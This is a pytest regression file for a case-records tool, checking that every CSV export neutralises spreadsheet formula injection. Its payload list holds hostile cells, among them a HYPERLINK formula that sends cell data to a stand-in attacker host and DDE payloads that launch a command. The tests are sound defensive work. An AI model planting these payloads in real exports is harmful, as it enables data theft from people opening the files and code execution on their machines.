"""Attack: CSV formula injection (issue 18, break 3). A name, place or note that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) ran as a
formula when an investigator opened an export in a spreadsheet; 13 of 23 outputs carried
a live payload, the ``--include-protected`` person export among them. Every CSV dalil
writes now goes through :mod:`dalil.display.csvout`. All names are fictional."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from dalil.core.case import Case
from dalil.display.csvout import neutralise

PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def _live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula?"""
    if not cell:
        return False
    if cell[0] in "\t\r":
        return True
    head = cell.lstrip(" \t\r\n\u00a0\u3000")
    if not head or head[0] not in "=+-@＝＋－＠":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_start_a_formula_are_neutralised(payload: str) -> None:
    out = neutralise(payload)
    assert out == "'" + payload and not _live(str(out))


@pytest.mark.parametrize("keep", ["-3", "+1.5", "-1e-3", "35.9", "Fictional Alpha", "a=b", ""])
def test_csv_numbers_and_plain_text_are_left_alone(keep: str) -> None:
    assert neutralise(keep) == keep


def test_record_csv_export_with_protected_names_carries_no_live_formula(
    any_case: Case, tmp_path: Path
) -> None:
    from dalil.services import export, persons, records

    with any_case.act() as ctx:
        for i, p in enumerate(PAYLOADS):
            persons.add_person(
                ctx, pseudonym=f"{p} W-{i}", legal_name=p, roles=["witness"], notes=p
            )
        records.add(
            ctx, "incident", title=PAYLOADS[0], place_name=PAYLOADS[1], lat=-12.5, lon=30.25
        )
        records.add(ctx, "source", title=PAYLOADS[3], kind="report", publisher=PAYLOADS[2])
    out = tmp_path / "records"
    export.export_records(
        any_case, "admin", out, "csv", include_protected=True, reason="court filing (test)"
    )
    texts = {p.name: p.read_text(encoding="utf-8") for p in out.glob("*.csv")}
    assert {"person.csv", "incident.csv", "source.csv"} <= set(texts)
    cells = [c for t in texts.values() for c in _cells(t)]
    assert [c for c in cells if _live(c)] == []
    # The values are all there, readable, behind an apostrophe; numbers stay numbers.
    assert "'" + PAYLOADS[1] in cells and "'" + PAYLOADS[3] in cells
    assert sum(c == "'" + PAYLOADS[0] for c in _cells(texts["person.csv"])) >= 1
    assert "-12.5" in _cells(texts["incident.csv"])


def test_incident_coding_exports_carry_no_live_formula() -> None:
    from dalil.findings.incidents import EXPORT_FORMATS, IncidentCoding, export

    c = IncidentCoding(
        incident_id="INC-1",
        title=PAYLOADS[0],
        actor1=PAYLOADS[1],
        date_start=date(2025, 3, 7),
        date_precision="day",
        country="Fictionland",
        admin1=PAYLOADS[3],
        location=PAYLOADS[2],
        latitude=-35.1,
        longitude=35.9,
        geo_precision="near",
        fatalities_best=3,
        fatality_sources={"best": ["SRC-1"]},
    )
    c.validate()
    for fmt in EXPORT_FORMATS:
        cells = _cells(export([c], fmt))
        assert [x for x in cells if _live(x)] == [], fmt
        assert "'" + PAYLOADS[1] in cells, fmt


def test_capture_history_csv_carries_no_live_formula(
    case: Case, tmp_path: Path, dalil: Any
) -> None:
    from dalil.services import lists

    for name, rows in (("Fictional A", "1,2"), ("Fictional B", "1,3")):
        f = tmp_path / f"{name}.csv"
        body = "record_id,full_name,sex,place_of_death\n"
        people = {
            "1": f"1,Fictional Alpha One,male,{PAYLOADS[1]}",
            "2": "2,Fictional Beta Two,female,Qarya",
            "3": "3,Fictional Gamma Three,male,Tal",
        }
        f.write_text(body + "\n".join(people[r] for r in rows.split(",")) + "\n", "utf-8")
        lists.import_list(case, "admin", f, list_name=name)
    with case.act() as ctx:
        lists.link(ctx)
    out = tmp_path / "histories.csv"
    r = dalil("lists", "histories", "--strata", "place_of_death", "--out", str(out))
    assert r.exit_code == 0, r.output
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + PAYLOADS[1] in cells and [c for c in cells if _live(c)] == []


def test_linkage_cluster_csv_carries_no_live_formula(tmp_path: Path) -> None:
    from dalil.linkage.clusters import Clustering
    from dalil.linkage.link import write_clusters

    cl = Clustering(
        cluster_of={PAYLOADS[0]: "c1", "r2": "c1"},
        probability={PAYLOADS[0]: 0.9, "r2": 0.9},
        blocked_joins=0,
    )
    out = tmp_path / "clusters.csv"
    write_clusters(cl, out)
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + PAYLOADS[0] in cells and [c for c in cells if _live(c)] == []


def test_every_csv_writer_in_dalil_goes_through_csvout() -> None:
    """The one door for CSV out: ``csv.writer`` / ``csv.DictWriter`` appear nowhere in
    the package but in :mod:`dalil.display.csvout` (demo and synthetic lists included).
    The one exception writes to memory and reads it straight back (never a file)."""
    src = Path(__file__).resolve().parents[2] / "src" / "dalil"
    offenders = []
    for path in src.rglob("*.py"):
        if path.name == "csvout.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(src)}:{node.lineno}")
    assert [o for o in offenders if not o.startswith("estimate/data.py:")] == []
